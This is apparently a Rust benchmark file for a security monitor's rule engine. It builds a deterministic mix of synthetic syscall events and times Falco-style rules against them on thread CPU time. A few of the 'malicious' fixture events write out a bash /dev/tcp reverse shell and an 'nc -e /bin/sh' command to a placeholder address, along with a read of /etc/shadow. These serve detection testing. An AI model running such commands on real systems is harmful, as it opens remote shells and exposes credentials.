//! Rule engine throughput: the default ruleset (`rules/`) plus Falco's stable ruleset,
//! evaluated on a recorded mix of a few hundred events (exec, open, connect, fork,
//! exit; host and container; mostly benign, a few malicious).
//!
//! - `engine/evaluate_mix`: the daemon's path, the agent's own event structures
//!   ([`LiveEvent`]), built from the recorded JSON beforehand;
//! - `engine/evaluate_mix_json`: the same events as pre-parsed JSON ([`JsonEvent`],
//!   the path of fixtures and `monitor replay`);
//! - `engine/baseline_one_rule`: the baseline measured in the same run, one trivial
//!   rule (one field read and one comparison per event) on the live events.
//!
//! Time is the benchmark thread's CPU time (`CLOCK_THREAD_CPUTIME_ID`), not wall time:
//! the target is events per second on one core, and on a shared machine wall time also
//! counts the time the thread waited for a core.
//!
//! Run: `cargo bench -p monitor --bench engine` (or `cargo xtask bench`, which reports
//! events/s and the ratio to the baseline).
use std::{
    alloc::{GlobalAlloc, Layout, System},
    hint::black_box,
    path::PathBuf,
    sync::atomic::{AtomicUsize, Ordering},
};

use criterion::{
    BenchmarkGroup, Criterion, Throughput, criterion_group, criterion_main,
    measurement::{Measurement, ValueFormatter},
};
use monitor::{
    clock::BootClock,
    profiles::{
        ProfilesConfig,
        fleet::FleetConfig,
        learner::{Admission, Learner},
    },
    rules::{Engine, FieldSource, JsonEvent, LiveEvent, Scratch, recorded::enriched_from_json},
};
use serde_json::{Value, json};

const FALCO_RULES: &str = concat!(
    env!("CARGO_MANIFEST_DIR"),
    "/../../shared/falco-rules/falco_rules.yaml"
);

const FALCO_INCUBATING_RULES: &str = concat!(
    env!("CARGO_MANIFEST_DIR"),
    "/../../shared/falco-rules/falco-incubating_rules.yaml"
);

const FALCO_SANDBOX_RULES: &str = concat!(
    env!("CARGO_MANIFEST_DIR"),
    "/../../shared/falco-rules/falco-sandbox_rules.yaml"
);

fn engine() -> Engine {
    let rules = PathBuf::from(concat!(env!("CARGO_MANIFEST_DIR"), "/../rules"));
    Engine::load_paths(&[rules, PathBuf::from(FALCO_RULES)]).unwrap_or_else(|e| panic!("{e}"))
}

/// The default rules with Falco's stable and incubating rulesets, and with its sandbox
/// one too.
fn engine_with(more: &[&str]) -> Engine {
    let mut paths = vec![
        PathBuf::from(concat!(env!("CARGO_MANIFEST_DIR"), "/../rules")),
        PathBuf::from(FALCO_RULES),
    ];
    paths.extend(more.iter().map(PathBuf::from));
    Engine::load_paths(&paths).unwrap_or_else(|e| panic!("{e}"))
}

/// A small deterministic generator, so every run sees the same mix.
struct Lcg(u64);

impl Lcg {
    fn next(&mut self) -> u64 {
        self.0 = self
            .0
            .wrapping_mul(6364136223846793005)
            .wrapping_add(1442695040888963407);
        self.0 >> 33
    }
    fn pick<'a, T>(&mut self, items: &'a [T]) -> &'a T {
        &items[self.next() as usize % items.len()]
    }
}

fn container(i: u64) -> Value {
    match i % 4 {
        0 => json!({"id": "host", "name": "host"}),
        1 => json!({"id": "4f2a6b0c9d8e7f6a5b4c3d2e1f0a9b8c7d6e5f4a3b2c1d0e9f8a7b6c5d4e3f2a",
                    "short_id": "4f2a6b0c9d8e", "runtime": "docker", "name": "web",
                    "image": "nginx:1.25", "image_repository": "nginx", "image_tag": "1.25",
                    "labels": {}, "privileged": false}),
        2 => json!({"id": "9a8b7c6d5e4f3a2b1c0d9e8f7a6b5c4d3e2f1a0b9c8d7e6f5a4b3c2d1e0f9a8b",
                    "short_id": "9a8b7c6d5e4f", "runtime": "docker", "name": "api",
                    "image": "python:3.12-slim", "image_repository": "python",
                    "image_tag": "3.12-slim", "labels": {"app": "api"}, "privileged": false}),
        _ => json!({"id": "1b2c3d4e5f6a7b8c9d0e1f2a3b4c5d6e7f8a9b0c1d2e3f4a5b6c7d8e9f0a1b2c",
                    "short_id": "1b2c3d4e5f6a", "runtime": "docker", "name": "worker",
                    "image": "registry.example.net/ops/worker:3",
                    "image_repository": "registry.example.net/ops/worker", "image_tag": "3",
                    "labels": {}, "privileged": false}),
    }
}

fn process(pid: u64, argv: &[&str], exepath: &str, tty: u64) -> Value {
    let name = exepath.rsplit('/').next().unwrap_or("x");
    json!({
        "pid": pid, "ppid": pid - 1, "name": name, "exe": argv[0], "exepath": exepath,
        "args": &argv[1..], "cmdline": format!("{name} {}", argv[1..].join(" ")),
        "cwd": "/", "tty": tty, "sid": pid, "vpid": pid % 300 + 2, "uid": 0,
        "user": "root", "gid": 0, "group": "root", "euid": 0, "loginuid": null,
        "exec_id": format!("{pid}-1"), "start_boot_ns": 5_000_000_000u64 + pid,
    })
}

fn ancestors(i: u64) -> Value {
    if i.is_multiple_of(4) {
        json!([{"pid": 800, "name": "bash", "exe": "bash", "exepath": "/usr/bin/bash", "cmdline": "bash"},
               {"pid": 700, "name": "sshd", "exe": "sshd", "exepath": "/usr/sbin/sshd", "cmdline": "sshd: admin"},
               {"pid": 1, "name": "systemd", "exe": "/sbin/init", "exepath": "/usr/lib/systemd/systemd", "cmdline": "systemd"}])
    } else {
        json!([{"pid": 900, "name": "sh", "exe": "/bin/sh", "exepath": "/bin/dash", "cmdline": "sh /entrypoint.sh"},
               {"pid": 850, "name": "containerd-shim", "exe": "/usr/bin/containerd-shim-runc-v2",
                "exepath": "/usr/bin/containerd-shim-runc-v2", "cmdline": "containerd-shim -namespace moby"}])
    }
}

/// The recorded mix: ~45% opens, 20% execs, 15% connects, 10% forks, 10% exits.
fn events() -> Vec<Value> {
    let mut rng = Lcg(42);
    let benign_exec: &[(&[&str], &str)] = &[
        (&["ls", "-l", "/"], "/usr/bin/ls"),
        (&["cat", "/etc/hostname"], "/usr/bin/cat"),
        (&["sleep", "5"], "/usr/bin/sleep"),
        (&["nginx", "-g", "daemon off;"], "/usr/sbin/nginx"),
        (&["python3", "app.py"], "/usr/local/bin/python3.12"),
        (&["grep", "-q", "x", "/tmp/f"], "/usr/bin/grep"),
        (&["date", "+%s"], "/usr/bin/date"),
        (
            &["runc", "--root", "/run/runc", "state", "4f2a"],
            "/usr/bin/runc",
        ),
    ];
    let benign_open: &[(&str, u64)] = &[
        ("/etc/hostname", 0),
        ("/etc/passwd", 0o2000000),
        ("/usr/lib/x86_64-linux-gnu/libc.so.6", 0o2000000),
        ("/tmp/out.log", 0o1101),
        ("/var/log/nginx/access.log", 0o2101),
        ("/proc/self/status", 0),
        ("/etc/ld.so.cache", 0o2000000),
        ("/usr/share/zoneinfo/UTC", 0),
        ("/app/static/index.html", 0),
        ("/sys/fs/cgroup/memory.max", 0),
    ];
    let benign_connect: &[(&str, u64)] = &[
        ("10.0.0.8", 443),
        ("10.96.0.10", 53),
        ("127.0.0.1", 8080),
        ("10.0.0.9", 80),
        ("10.0.0.5", 5432),
    ];
    let mut out = Vec::new();
    for i in 0..400u64 {
        let pid = 1000 + i * 3;
        let ctr = container(i);
        let anc = ancestors(i);
        let common = |kind: &str, comm: &str| {
            json!({"kind": kind, "time": "2025-03-01T12:00:00.000000000Z",
                   "boot_ns": 9_000_000_000u64 + i, "pid": pid, "tid": pid, "comm": comm,
                   "cgroup_id": 4242})
        };
        let roll = rng.next() % 100;
        // One event in 25 is malicious.
        let malicious = i % 25 == 7;
        let mut ev = if roll < 45 {
            let (path, flags) = if malicious {
                *rng.pick(&[("/etc/shadow", 0u64), ("/usr/bin/ls", 0o1101)])
            } else {
                *rng.pick(benign_open)
            };
            let mut e = common("open", "cat");
            let m = e.as_object_mut().unwrap();
            m.insert("syscall".into(), json!("openat"));
            m.insert("path".into(), json!(path));
            m.insert("resolved_path".into(), json!(path));
            m.insert("dirfd".into(), json!(-100));
            m.insert("flags".into(), json!(flags));
            m.insert("mode".into(), json!(0o644));
            m.insert("result".into(), json!(3));
            m.insert("fd".into(), json!(3));
            m.insert("uid".into(), json!(0));
            m.insert(
                "process".into(),
                process(pid, &["cat", path], "/usr/bin/cat", 0),
            );
            e
        } else if roll < 65 {
            let (argv, exepath): (&[&str], &str) = if malicious {
                *rng.pick(&[
                    (
                        &["bash", "-c", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"][..],
                        "/usr/bin/bash",
                    ),
                    (
                        &["apt-get", "install", "-y", "nmap"][..],
                        "/usr/bin/apt-get",
                    ),
                    (
                        &["nc", "-e", "/bin/sh", "203.0.113.7", "4444"][..],
                        "/usr/bin/nc",
                    ),
                ])
            } else {
                *rng.pick(benign_exec)
            };
            let mut e = common("exec", exepath.rsplit('/').next().unwrap());
            let m = e.as_object_mut().unwrap();
            m.insert("syscall".into(), json!("execve"));
            m.insert("result".into(), json!(0));
            m.insert("exe".into(), json!(exepath));
            m.insert("args".into(), json!(argv));
            m.insert("ppid".into(), json!(pid - 1));
            m.insert("uid".into(), json!(0));
            m.insert("process".into(), process(pid, argv, exepath, 0));
            e
        } else if roll < 80 {
            let (addr, port) = if malicious {
                ("198.51.100.20", 3333)
            } else {
                *rng.pick(benign_connect)
            };
            let mut e = common("connect", "nginx");
            let m = e.as_object_mut().unwrap();
            m.insert("fd".into(), json!(5));
            m.insert("family".into(), json!("inet"));
            m.insert("sock_type".into(), json!("stream"));
            m.insert("address".into(), json!(addr));
            m.insert("port".into(), json!(port));
            let (result, error) = if i % 2 == 0 {
                (0, None)
            } else {
                (-115, Some("EINPROGRESS"))
            };
            m.insert("result".into(), json!(result));
            m.insert("error".into(), json!(error));
            m.insert("uid".into(), json!(101));
            m.insert(
                "process".into(),
                process(pid, &["nginx: worker process"], "/usr/sbin/nginx", 0),
            );
            e
        } else if roll < 90 {
            let mut e = common("fork", "nginx");
            let m = e.as_object_mut().unwrap();
            m.insert("child_pid".into(), json!(pid + 1));
            m.insert("child_tid".into(), json!(pid + 1));
            m.insert("ppid".into(), json!(pid - 1));
            m.insert(
                "process".into(),
                process(pid, &["nginx"], "/usr/sbin/nginx", 0),
            );
            e
        } else {
            let mut e = common("exit", "sleep");
            let m = e.as_object_mut().unwrap();
            m.insert("exit_code".into(), json!(0));
            m.insert("ppid".into(), json!(pid - 1));
            m.insert(
                "process".into(),
                process(pid, &["sleep", "5"], "/usr/bin/sleep", 0),
            );
            e
        };
        let m = ev.as_object_mut().unwrap();
        m.insert("ancestors".into(), anc);
        m.insert("container".into(), ctr);
        out.push(ev);
    }
    out
}

/// Counts heap allocations, to show that evaluating a live event allocates nothing.
struct Counting;

static ALLOCATIONS: AtomicUsize = AtomicUsize::new(0);

// SAFETY: every call is forwarded unchanged to the system allocator.
unsafe impl GlobalAlloc for Counting {
    unsafe fn alloc(&self, layout: Layout) -> *mut u8 {
        ALLOCATIONS.fetch_add(1, Ordering::Relaxed);
        // SAFETY: the caller's contract is the system allocator's.
        unsafe { System.alloc(layout) }
    }

    unsafe fn dealloc(&self, ptr: *mut u8, layout: Layout) {
        // SAFETY: `ptr` came from `alloc` above, that is from the system allocator.
        unsafe { System.dealloc(ptr, layout) }
    }
}

#[global_allocator]
static GLOBAL: Counting = Counting;

/// Names of the rules that match each event.
fn alerts<S: FieldSource>(engine: &Engine, events: &[S]) -> Vec<Vec<String>> {
    let mut scratch = Scratch::default();
    let mut out = Vec::new();
    events
        .iter()
        .map(|e| {
            engine.evaluate(e, &mut scratch, &mut out);
            out.iter().map(|r| r.name.clone()).collect()
        })
        .collect()
}

/// One benchmark: every event of `events` through `engine`, per iteration.
fn run<S: FieldSource>(
    group: &mut BenchmarkGroup<'_, ThreadCpuTime>,
    name: &str,
    engine: &Engine,
    events: &[S],
) {
    let mut scratch = Scratch::default();
    let mut out = Vec::new();
    group.bench_function(name, |b| {
        b.iter(|| {
            let mut n = 0;
            for e in events {
                engine.evaluate(black_box(e), &mut scratch, &mut out);
                n += out.len();
            }
            black_box(n)
        })
    });
}

/// What the learned profiles add to each event on the daemon's path: the workload of
/// its container and the lookup of what it did in the frozen profile (the mix's
/// workloads learned it first, so every lookup finds its entry). `fleet`: the same
/// with the profiles shared through a real nats-server (a single JetStream server the
/// bench starts), which must cost the event path next to nothing: the store is only
/// ever talked to from the link's own task.
fn profile_lookups(
    group: &mut BenchmarkGroup<'_, ThreadCpuTime>,
    natives: &[monitor::context::EnrichedEvent],
    fleet: Option<&NatsServer>,
) {
    let runtime = tokio::runtime::Builder::new_multi_thread()
        .worker_threads(1)
        .enable_all()
        .build()
        .unwrap();
    let _inside = runtime.enter();
    let mut learner = Learner::new(ProfilesConfig {
        enabled: true,
        state_dir: None,
        learning_window: std::time::Duration::from_secs(1),
        fleet: fleet.map(|server| FleetConfig {
            url: server.url.clone(),
            replicas: 1,
            ..FleetConfig::default()
        }),
        ..ProfilesConfig::default()
    });
    let mut events = natives.to_vec();
    let mut passed = Vec::with_capacity(events.len());
    // Every workload's first events wait for the fleet's profile of it: let them go.
    let admit_all = |learner: &mut Learner,
                     events: &mut Vec<monitor::context::EnrichedEvent>,
                     passed: &mut Vec<monitor::context::EnrichedEvent>| {
        let wanted = events.len();
        for mut e in events.drain(..) {
            match learner.admit(&mut e) {
                Admission::Judged => passed.push(e),
                Admission::Wait(workload) => learner.hold(workload, e),
            }
        }
        while passed.len() < wanted {
            runtime.block_on(async {
                let _ =
                    tokio::time::timeout(std::time::Duration::from_secs(1), learner.wake()).await;
            });
            learner.release(false, passed);
        }
        std::mem::swap(events, passed);
    };
    admit_all(&mut learner, &mut events, &mut passed);
    let mut running: Vec<_> = events.iter().map(|e| e.container.clone()).collect();
    running.dedup_by(|a, b| a.id == b.id);
    learner.housekeeping(&running, std::time::Duration::from_secs(2));
    admit_all(&mut learner, &mut events, &mut passed);
    for e in &events {
        assert!(
            e.workload.as_ref().is_none_or(|w| !w.learning && !w.new),
            "the mix is learned and frozen"
        );
    }
    assert!(
        events.iter().any(|e| e.workload.is_some()),
        "no workload in the mix"
    );
    if fleet.is_some() {
        let stats = learner.fleet_stats().unwrap();
        assert!(stats.connected, "the bench's nats-server: {stats:?}");
    }
    let name = if fleet.is_some() {
        "profile_lookups_fleet"
    } else {
        "profile_lookups"
    };
    group.bench_function(name, |b| {
        b.iter(|| {
            for e in events.iter_mut() {
                black_box(learner.admit(black_box(e)));
            }
        })
    });
}

/// A JetStream server of Debian's `nats-server` on a free loopback port, for the
/// fleet variant; stopped when dropped.
struct NatsServer {
    url: String,
    child: std::process::Child,
    dir: PathBuf,
}

impl NatsServer {
    fn start() -> NatsServer {
        let port = std::net::TcpListener::bind("127.0.0.1:0")
            .and_then(|l| l.local_addr())
            .map(|a| a.port())
            .unwrap();
        let dir = std::env::temp_dir().join(format!("monitor-bench-nats-{}", std::process::id()));
        let _ = std::fs::remove_dir_all(&dir);
        let child = std::process::Command::new("nats-server")
            .args(["-js", "-a", "127.0.0.1", "-p", &port.to_string(), "-sd"])
            .arg(&dir)
            .stdout(std::process::Stdio::null())
            .stderr(std::process::Stdio::null())
            .spawn()
            .expect("nats-server for the fleet variant (`cargo xtask setup` installs it)");
        let deadline = std::time::Instant::now() + std::time::Duration::from_secs(10);
        while std::net::TcpStream::connect(("127.0.0.1", port)).is_err() {
            assert!(
                std::time::Instant::now() < deadline,
                "nats-server did not start"
            );
            std::thread::sleep(std::time::Duration::from_millis(50));
        }
        NatsServer {
            url: format!("nats://127.0.0.1:{port}"),
            child,
            dir,
        }
    }
}

impl Drop for NatsServer {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
        let _ = std::fs::remove_dir_all(&self.dir);
    }
}

/// CPU time consumed by the calling thread, in nanoseconds.
fn thread_cpu_ns() -> u64 {
    let mut ts = libc::timespec {
        tv_sec: 0,
        tv_nsec: 0,
    };
    // SAFETY: clock_gettime writes the timespec it is given; this clock always exists
    // on Linux.
    let rc = unsafe { libc::clock_gettime(libc::CLOCK_THREAD_CPUTIME_ID, &mut ts) };
    assert_eq!(rc, 0, "clock_gettime(CLOCK_THREAD_CPUTIME_ID)");
    ts.tv_sec as u64 * 1_000_000_000 + ts.tv_nsec as u64
}

/// criterion measurement: the thread's CPU time in nanoseconds.
struct ThreadCpuTime;

impl Measurement for ThreadCpuTime {
    type Intermediate = u64;
    type Value = u64;

    fn start(&self) -> u64 {
        thread_cpu_ns()
    }
    fn end(&self, start: u64) -> u64 {
        thread_cpu_ns() - start
    }
    fn add(&self, a: &u64, b: &u64) -> u64 {
        a + b
    }
    fn zero(&self) -> u64 {
        0
    }
    fn to_f64(&self, value: &u64) -> f64 {
        *value as f64
    }
    fn formatter(&self) -> &dyn ValueFormatter {
        &Nanoseconds
    }
}

/// Values in CPU nanoseconds, throughputs in elements per CPU second.
struct Nanoseconds;

impl ValueFormatter for Nanoseconds {
    fn scale_values(&self, _typical: f64, _values: &mut [f64]) -> &'static str {
        "ns (CPU)"
    }
    fn scale_throughputs(
        &self,
        _typical: f64,
        throughput: &Throughput,
        values: &mut [f64],
    ) -> &'static str {
        let per_iteration = match *throughput {
            Throughput::Elements(n) | Throughput::Bytes(n) | Throughput::BytesDecimal(n) => {
                n as f64
            }
        };
        for v in values {
            *v = per_iteration * 1e9 / *v;
        }
        "elem/s (CPU)"
    }
    fn scale_for_machines(&self, _values: &mut [f64]) -> &'static str {
        "ns"
    }
}

fn bench(c: &mut Criterion<ThreadCpuTime>) {
    let engine = engine();
    let values = events();
    let parsed: Vec<JsonEvent<'_>> = values.iter().map(|v| JsonEvent::new(v).unwrap()).collect();
    let clock = BootClock::new();
    let natives: Vec<_> = values.iter().map(enriched_from_json).collect();
    let live: Vec<LiveEvent<'_>> = natives
        .iter()
        .map(|e| LiveEvent::enriched(e, &clock))
        .collect();
    // Sanity: the mix does raise a few alerts, most events raise none, and both
    // representations raise the same.
    let fired = alerts(&engine, &live);
    assert_eq!(fired, alerts(&engine, &parsed));
    let alerting = fired.iter().filter(|f| !f.is_empty()).count();
    // The daemon's path allocates nothing per event (the scratch buffers are warm).
    let mut scratch = Scratch::default();
    let mut out = Vec::new();
    for e in &live {
        engine.evaluate(e, &mut scratch, &mut out);
    }
    let before = ALLOCATIONS.load(Ordering::Relaxed);
    for e in &live {
        engine.evaluate(e, &mut scratch, &mut out);
    }
    let allocations = ALLOCATIONS.load(Ordering::Relaxed) - before;
    assert_eq!(allocations, 0, "allocations while evaluating live events");
    assert!(alerting > 0 && alerting < parsed.len() / 5, "{alerting}");
    eprintln!(
        "engine bench: {} active rules, {} events, {} raise an alert, 0 allocations per event",
        engine.rules().len(),
        parsed.len(),
        alerting
    );
    let trivial = Engine::load_sources(&[(
        "baseline.yaml".to_string(),
        "- rule: trivial\n  desc: d\n  condition: proc.name = never-matches\n  output: o\n  priority: info\n".to_string(),
    )])
    .unwrap_or_else(|e| panic!("{e}"));

    let incubating = engine_with(&[FALCO_INCUBATING_RULES]);
    eprintln!(
        "engine bench: with Falco's incubating rules, {} active rules",
        incubating.rules().len()
    );
    let all_three = engine_with(&[FALCO_INCUBATING_RULES, FALCO_SANDBOX_RULES]);
    eprintln!(
        "engine bench: with Falco's incubating and sandbox rules, {} active rules",
        all_three.rules().len()
    );

    let mut group = c.benchmark_group("engine");
    group.throughput(Throughput::Elements(parsed.len() as u64));
    run(&mut group, "evaluate_mix", &engine, &live);
    run(&mut group, "evaluate_mix_incubating", &incubating, &live);
    run(&mut group, "evaluate_mix_all_falco", &all_three, &live);
    run(&mut group, "evaluate_mix_json", &engine, &parsed);
    run(&mut group, "baseline_one_rule", &trivial, &live);
    profile_lookups(&mut group, &natives, None);
    let nats = NatsServer::start();
    profile_lookups(&mut group, &natives, Some(&nats));
    group.finish();
}

criterion_group! {
    name = benches;
    config = Criterion::default().with_measurement(ThreadCpuTime);
    targets = bench
}
criterion_main!(benches);
